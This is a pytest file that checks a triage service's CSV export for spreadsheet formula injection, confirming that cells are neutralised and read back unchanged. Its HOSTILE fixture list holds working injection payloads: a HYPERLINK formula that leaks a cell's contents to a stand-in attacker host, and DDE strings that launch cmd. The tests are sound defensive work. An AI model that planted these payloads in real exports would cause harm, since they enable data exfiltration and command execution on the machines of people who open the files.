"""CSV files Triage writes keep text that looks like a spreadsheet formula as text, and read back unchanged."""

import csv

import pytest

from service.core.csvcells import FORMULA_PREFIXES, cell, uncell
from service.review import users as review_users
from service.review import verdicts as review_verdicts
from tests.support.review import PASSWORD, decided_ticket, decision_id

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1, "Click for a refund")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", [*HOSTILE, "'=already quoted", "plain text", "it's fine", "'quoted start", ""])
def test_a_cell_never_starts_with_a_formula_character_and_reads_back_unchanged(text):
    written = cell(text)
    assert not written.startswith(FORMULA_PREFIXES)
    assert uncell(written) == text


def test_numbers_and_times_are_left_as_they_are():
    assert cell(-5) == -5 and cell(3.5) == 3.5 and cell(None) is None


def test_the_feedback_export_neutralises_formulas_and_training_reads_the_text_back(app, runtime, tmp_path):
    from service.cli.operations import write_feedback
    from training.sources import SourceSpec, read_source

    with runtime.db.session() as session:
        agent = review_users.create_user(session, username="ann", password=PASSWORD, role="agent")
    for text in HOSTILE:
        ticket_id = decided_ticket(runtime, subject=text, body="")
        with runtime.db.session() as session:
            review_verdicts.review_ticket(
                runtime, session, ticket_id=ticket_id, decision_id=decision_id(runtime, ticket_id), user_id=agent.id
            )
    out = tmp_path / "feedback.csv"
    with app.app_context():
        written, stale = write_feedback(out, corrections_only=False)
    assert (written, stale) == (len(HOSTILE), 0)
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert all(not value.startswith(FORMULA_PREFIXES) for row in rows[1:] for value in row)
    exported = sorted(row[0] for row in rows[1:])
    assert sum(t.startswith("'") for t in exported) >= 4  # what normalising left starting like a formula
    read, _ = read_source(SourceSpec.parse(f"feedback:{out}"))
    assert sorted(r.text for r in read) == sorted(uncell(t) for t in exported)
    assert any(r.text.startswith("=HYPERLINK") for r in read)
